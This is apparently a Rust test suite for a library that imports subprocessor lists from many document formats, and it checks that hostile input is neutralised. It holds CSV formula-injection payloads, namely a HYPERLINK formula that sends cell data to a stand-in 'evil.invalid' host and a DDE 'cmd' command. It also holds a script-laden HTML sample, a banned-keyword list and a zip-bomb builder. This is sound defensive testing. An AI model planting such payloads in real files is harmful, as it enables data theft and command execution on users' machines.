//! The readers against committed fixtures and hostile input: each format comes out as the
//! blocks a person would read, and bad input fails with the error that says why.

use dpadesk_import::formats::{Limits, read, read_with};
use dpadesk_import::{Block, Document, Format, ImportError, Watch};
use std::io::Write;
use std::path::Path;
use std::sync::atomic::AtomicBool;
use zip::write::SimpleFileOptions;

fn fixture(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{name}: {e}"))
}

fn bad(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/bad")
        .join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{name}: {e}"))
}

fn read_fixture(name: &str) -> Document {
    read(&fixture(name), Some(name), &Watch::default()).unwrap_or_else(|e| panic!("{name}: {e}"))
}

fn tables(document: &Document) -> Vec<&Vec<Vec<String>>> {
    document
        .blocks
        .iter()
        .filter_map(|b| match b {
            Block::Table { rows } => Some(rows),
            Block::Text { .. } => None,
        })
        .collect()
}

fn lines(document: &Document) -> Vec<&str> {
    document
        .blocks
        .iter()
        .flat_map(|b| match b {
            Block::Text { lines } => lines.iter().map(String::as_str).collect(),
            Block::Table { .. } => Vec::new(),
        })
        .collect()
}

fn row(cells: &[&str]) -> Vec<String> {
    cells.iter().map(|c| c.to_string()).collect()
}

fn everything(document: &Document) -> String {
    serde_json::to_string(document).unwrap()
}

#[test]
fn every_fixture_has_its_expected_rows() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let mut fixtures = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let name = entry.unwrap().file_name().into_string().unwrap();
        let Some((stem, ext)) = name.rsplit_once('.') else {
            continue;
        };
        if ext == "json" || ext == "py" {
            continue;
        }
        let expected = std::fs::read_to_string(dir.join(format!("{stem}.expected.json")))
            .unwrap_or_else(|e| panic!("{name} has no expected rows: {e}"));
        let rows: Vec<serde_json::Value> = serde_json::from_str(&expected).unwrap();
        for row in &rows {
            assert!(
                row["name"].is_string() && row.get("country").is_some(),
                "{name}: {row}"
            );
        }
        fixtures += 1;
    }
    assert!(fixtures >= 10, "only {fixtures} fixtures");
}

#[test]
fn xlsx_with_a_merged_cell_and_a_formula() {
    let d = read_fixture("subprocessors.xlsx");
    assert_eq!(d.format, Format::Spreadsheet);
    let t = tables(&d);
    assert_eq!(t.len(), 1, "the empty second sheet adds no block");
    assert_eq!(t[0].len(), 6);
    assert_eq!(
        t[0][2],
        row(&[
            "Google LLC",
            "Analytics",
            "United States",
            "Standard Contractual Clauses"
        ])
    );
    assert_eq!(
        t[0][5][1], "=CONCATENATE(\"SMS \",\"delivery\")",
        "formula kept as text"
    );
    assert!(d.warnings.iter().any(|w| w.contains("formula")));
}

#[test]
fn ods_with_french_headers() {
    let d = read_fixture("sous-traitants.ods");
    assert_eq!(d.format, Format::Spreadsheet);
    let t = tables(&d);
    assert_eq!(
        t[0][0],
        row(&["Sous-traitant", "Finalité", "Pays", "Garanties"])
    );
    assert_eq!(t[0][2][2], "États-Unis");
}

#[test]
fn xls_with_dutch_headers() {
    let d = read_fixture("subverwerkers.xls");
    let t = tables(&d);
    assert_eq!(
        t[0][0],
        row(&["Subverwerker", "Doel", "Land", "Doorgiftemechanisme"])
    );
    assert_eq!(t[0][2][0], "Microsoft Ireland Operations Limited");
}

#[test]
fn docx_with_spanish_headers_merges_and_breaks() {
    let d = read_fixture("subencargados.docx");
    assert_eq!(d.format, Format::Docx);
    assert_eq!(lines(&d)[0], "Lista de subencargados");
    let t = tables(&d);
    assert_eq!(t.len(), 1);
    assert_eq!(
        t[0][0],
        row(&["Subencargado", "Finalidad", "País", "Garantías"])
    );
    assert_eq!(
        t[0][2][0],
        "Salesforce, Inc.\n415 Mission Street, San Francisco"
    );
    // vMerge: Google's country continues Salesforce's.
    assert_eq!(
        t[0][3][..3],
        row(&["Google LLC", "Analítica", "Estados Unidos"])
    );
    // gridSpan: a note over the whole row sits in the first column.
    assert_eq!(t[0][4][1..], row(&["", "", ""]));
    assert!(lines(&d).contains(&"Contacto: privacy@example.com"));
}

#[test]
fn pdf_table_split_across_pages_reads_as_one_table() {
    let d = read_fixture("split-table.pdf");
    assert_eq!(d.format, Format::Pdf);
    let t = tables(&d);
    assert_eq!(t.len(), 1, "one table, continued over the page break");
    assert_eq!(
        t[0].len(),
        1 + 36,
        "header once, 36 records; the repeated header dropped"
    );
    assert_eq!(
        t[0][1],
        row(&[
            "Amazon Web Services, Inc.",
            "Hosting",
            "United States",
            "SCC"
        ])
    );
    assert_eq!(t[0][36][0], "Stripe, Inc. (4)");
    let all = everything(&d);
    assert!(
        !all.contains("Example Ltd - Subprocessor list"),
        "running header dropped"
    );
    assert!(
        !all.contains("Page 1") && !all.contains("Page 2"),
        "page numbers dropped"
    );
}

#[test]
fn pdf_page_with_two_tables() {
    let d = read_fixture("two-tables.pdf");
    let t = tables(&d);
    assert_eq!(t.len(), 2);
    assert_eq!(t[0][0], row(&["Subprocessor", "Country", "Safeguard"]));
    assert_eq!(t[0].len(), 5);
    assert_eq!(t[1][2], row(&["OVH SAS", "France", "Hosting"]));
    assert_eq!(
        lines(&d),
        ["Third-country subprocessors", "Subprocessors in the EEA"]
    );
}

#[test]
fn pdf_reports_progress_to_the_end() {
    let seen = std::sync::Mutex::new(Vec::new());
    let report = |p: f32| seen.lock().unwrap().push(p);
    let watch = Watch {
        cancel: None,
        progress: Some(&report),
    };
    read(&fixture("split-table.pdf"), None, &watch).unwrap();
    let seen = seen.into_inner().unwrap();
    assert!(seen.len() >= 3 && seen.windows(2).all(|w| w[0] <= w[1]));
    assert_eq!(seen.last(), Some(&1.0));
}

#[test]
fn encrypted_and_scanned_pdfs_are_refused_by_name() {
    let watch = Watch::default();
    assert_eq!(
        read(&bad("encrypted.pdf"), None, &watch),
        Err(ImportError::EncryptedPdf)
    );
    assert_eq!(
        read(&bad("scanned.pdf"), None, &watch),
        Err(ImportError::ScannedPdf)
    );
}

#[test]
fn html_tables_lists_spans_and_breaks() {
    let d = read_fixture("sub-processors.html");
    assert_eq!(d.format, Format::Html);
    let t = tables(&d);
    assert_eq!(t.len(), 1);
    assert_eq!(t[0][0], row(&["Subprocessor", "Location", "Details", ""]));
    assert_eq!(
        t[0][1][0],
        "Amazon Web Services, Inc.\n410 Terry Avenue North, Seattle"
    );
    assert_eq!(
        t[0][2],
        row(&[
            "Google LLC",
            "United States",
            "Analytics",
            "Standard Contractual Clauses"
        ])
    );
    assert_eq!(t[0][4], row(&["Payment processing", "", "", ""]));
    assert!(lines(&d).contains(&"Twilio Inc. (United States) – SCC"));
}

#[test]
fn html_scripts_handlers_and_page_chrome_never_reach_the_output() {
    let d = read_fixture("sub-processors.html");
    let all = everything(&d);
    for banned in [
        "SCRIPT",
        "ONLOAD",
        "ONERROR",
        "STYLE-TEXT",
        "ALT-TEXT",
        "alert",
        "steal",
        "javascript",
        "document.",
        "Pricing",
        "Example Ltd",
        "©",
    ] {
        assert!(!all.contains(banned), "{banned} leaked into {all}");
    }
    let hostile = "<div onclick=\"x()\"><script>evil()</script><style>p{}</style>Safe<iframe>frame</iframe><svg><text>svg</text></svg></div>";
    let d = read(hostile.as_bytes(), None, &Watch::default()).unwrap();
    assert_eq!(
        d.blocks,
        vec![Block::Text {
            lines: vec!["Safe".into()]
        }]
    );
}

#[test]
fn markdown_tables_and_text() {
    let d = read_fixture("markdown-list.md");
    assert_eq!(d.format, Format::Markdown);
    let t = tables(&d);
    assert_eq!(
        t[0][0],
        row(&["Subprocessor", "Purpose", "Country", "Safeguard"])
    );
    assert_eq!(t[0][2][1], "CRM\nMarketing e-mails");
    assert_eq!(t[0][4][0], "Stripe, Inc.");
    assert!(lines(&d).contains(&"Hetzner Online GmbH, Germany (EEA)"));
}

#[test]
fn csv_in_windows_1250_with_polish_headers() {
    let d = read_fixture("podmioty-cp1250.csv");
    assert_eq!(d.format, Format::Csv);
    let t = tables(&d);
    assert_eq!(
        t[0][0],
        row(&[
            "Podmiot przetwarzający",
            "Kraj siedziby",
            "Cel przetwarzania",
            "Podstawa przekazania"
        ])
    );
    assert_eq!(t[0][4][2], "Serwery w Warszawie, obsługa zgłoszeń");
    assert_eq!(t[0][5][2], "Obsługa klienta, zażalenia i skargi");
    assert!(d.warnings.iter().any(|w| w.contains("windows-1250")));
}

#[test]
fn tsv_in_utf16_with_german_headers() {
    let d = read_fixture("unterauftragsverarbeiter-utf16.tsv");
    let t = tables(&d);
    assert_eq!(
        t[0][0],
        row(&[
            "Unterauftragsverarbeiter",
            "Anschrift",
            "Land",
            "Zweck",
            "Garantien"
        ])
    );
    assert_eq!(t[0][1][1], "Industriestraße 25, 91710 Gunzenhausen");
    assert_eq!(t[0][3][3], "SMS-Übermittlung");
    assert!(
        d.warnings.is_empty(),
        "a BOM leaves no doubt: {:?}",
        d.warnings
    );
}

#[test]
fn encodings_without_a_bom() {
    let polish = "Podmiot;Kraj;Opis\nOVH Sp. z o.o.;Polska;Przechowywanie kopii zapasowych, usługi sieciowe\nAsseco Poland S.A.;Polska;Obsługa zgłoszeń, źródła danych, księgowość i płace\n";
    let german = "Name;Land;Zweck\nHetzner Online GmbH;Deutschland;Datenübermittlung für Sicherungskopien\nStrato AG;Deutschland;Straßen- und Größenverzeichnis, Prüfung\n";
    let cases: [(&'static encoding_rs::Encoding, &str, &str); 4] = [
        (
            encoding_rs::ISO_8859_2,
            polish,
            "Obsługa zgłoszeń, źródła danych, księgowość i płace",
        ),
        (
            encoding_rs::WINDOWS_1250,
            polish,
            "Obsługa zgłoszeń, źródła danych, księgowość i płace",
        ),
        (
            encoding_rs::WINDOWS_1252,
            german,
            "Straßen- und Größenverzeichnis, Prüfung",
        ),
        (
            encoding_rs::UTF_8,
            german,
            "Straßen- und Größenverzeichnis, Prüfung",
        ),
    ];
    for (encoding, text, cell) in cases {
        let (bytes, _, _) = encoding.encode(text);
        let d = read(&bytes, Some("list.csv"), &Watch::default()).unwrap();
        assert_eq!(tables(&d)[0][2][2], cell, "{}", encoding.name());
    }
    let utf16be: Vec<u8> = german.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let d = read(&utf16be, None, &Watch::default()).unwrap();
    assert_eq!(
        tables(&d)[0][1][2],
        "Datenübermittlung für Sicherungskopien"
    );
    let mut bom = b"\xEF\xBB\xBF".to_vec();
    bom.extend_from_slice(german.as_bytes());
    let d = read(&bom, None, &Watch::default()).unwrap();
    assert_eq!(
        tables(&d)[0][0][0],
        "Name",
        "the BOM is not part of the first cell"
    );
}

#[test]
fn csv_formula_cells_stay_text_with_a_warning() {
    let d = read_fixture("formulas.csv");
    let t = tables(&d);
    assert_eq!(
        t[0][1][3],
        "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"Click\")"
    );
    assert_eq!(t[0][3][3], "+cmd|' /C calc'!A0");
    assert_eq!(t[0][4][3], "+49 9831 505-0");
    assert!(
        d.warnings.iter().any(|w| w.starts_with("3 cell(s)")),
        "{:?}",
        d.warnings
    );
}

#[test]
fn plain_text_and_name_content_disagreements() {
    let watch = Watch::default();
    let d = read(
        b"Amazon Web Services\nGoogle LLC\n",
        Some("list.pdf"),
        &watch,
    )
    .unwrap();
    assert_eq!(d.format, Format::Text, "text content beats a .pdf name");
    assert_eq!(lines(&d), ["Amazon Web Services", "Google LLC"]);
    let xlsx = fixture("subprocessors.xlsx");
    assert_eq!(
        read(&xlsx, Some("list.csv"), &watch).unwrap().format,
        Format::Spreadsheet
    );
}

fn noise(len: usize) -> Vec<u8> {
    let mut state = 0x2545_f491_4f6c_dd1du64;
    (0..len)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 24) as u8
        })
        .collect()
}

#[test]
fn bad_input_fails_with_a_reason() {
    let watch = Watch::default();
    assert_eq!(read(b"", None, &watch), Err(ImportError::Empty));
    assert_eq!(
        read(b" \r\n\t ", Some("x.csv"), &watch),
        Err(ImportError::Empty)
    );
    assert_eq!(
        read(&noise(10_000), None, &watch),
        Err(ImportError::UnknownFormat)
    );
    assert!(matches!(
        read(&noise(10_000), Some("list.docx"), &watch),
        Err(ImportError::Malformed { format: "DOCX", .. })
    ));
    assert_eq!(
        read(b"\x89PNG\r\n\x1a\n....", None, &watch),
        Err(ImportError::UnknownFormat)
    );
    for name in [
        "split-table.pdf",
        "subprocessors.xlsx",
        "subencargados.docx",
        "subverwerkers.xls",
        "sous-traitants.ods",
    ] {
        let bytes = fixture(name);
        for cut in [bytes.len() / 3, bytes.len() / 2, bytes.len() - 10] {
            let result = read(&bytes[..cut], Some(name), &watch);
            assert!(
                matches!(result, Err(ImportError::Malformed { .. }) | Ok(_)),
                "{name} cut at {cut}: {result:?}"
            );
        }
    }
}

#[test]
fn oversized_input_is_refused_before_parsing() {
    let limits = Limits {
        max_input: 4 * 1024 * 1024,
        ..Limits::default()
    };
    // Valid CSV, so only the size check can refuse it.
    let big = "a,b\n".repeat(1024 * 1024 + 1);
    assert_eq!(
        read_with(big.as_bytes(), None, &Watch::default(), &limits),
        Err(ImportError::TooLarge {
            size_mb: 5,
            limit_mb: 4
        })
    );
    assert_eq!(Limits::default().max_input, 200 * 1024 * 1024);
}

/// A zip with a small real entry marking its format and one huge, highly compressible one.
fn bomb(marker: &str, huge: usize) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    zip.start_file("[Content_Types].xml", options).unwrap();
    zip.write_all(b"<Types/>").unwrap();
    zip.start_file(marker, options).unwrap();
    zip.write_all(b"<x/>").unwrap();
    zip.start_file("padding.xml", options).unwrap();
    let chunk = vec![b' '; 1024 * 1024];
    for _ in 0..huge / chunk.len() {
        zip.write_all(&chunk).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

#[test]
fn zip_bombs_are_refused() {
    // At the real limit: 120 MB of spaces packs into a few hundred KB.
    let xlsx = bomb("xl/workbook.xml", 120 * 1024 * 1024);
    assert!(xlsx.len() < 1024 * 1024);
    assert_eq!(
        read(&xlsx, Some("list.xlsx"), &Watch::default()),
        Err(ImportError::Bomb {
            format: "XLSX",
            limit_mb: 100
        })
    );
    let limits = Limits {
        max_unpacked: 1024 * 1024,
        ..Limits::default()
    };
    let docx = bomb("word/document.xml", 2 * 1024 * 1024);
    assert_eq!(
        read_with(&docx, None, &Watch::default(), &limits),
        Err(ImportError::Bomb {
            format: "DOCX",
            limit_mb: 1
        })
    );
}

#[test]
fn cancelling_stops_the_read() {
    let cancelled = AtomicBool::new(true);
    let watch = Watch {
        cancel: Some(&cancelled),
        progress: None,
    };
    for name in [
        "split-table.pdf",
        "subprocessors.xlsx",
        "podmioty-cp1250.csv",
    ] {
        assert_eq!(
            read(&fixture(name), None, &watch),
            Err(ImportError::Cancelled),
            "{name}"
        );
    }
}

#[test]
fn fuzzer_finds_stay_errors() {
    // Found by `cargo fuzz run pdf`: pdf-extract panics on a font whose name is not a name;
    // the reader contains the panic, so the page is skipped with a warning.
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/regressions");
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        let bytes = std::fs::read(&path).unwrap();
        let result = read(&bytes, None, &Watch::default());
        assert!(
            !matches!(result, Ok(ref d) if d.blocks.is_empty()),
            "{}: {result:?}",
            path.display()
        );
    }
}
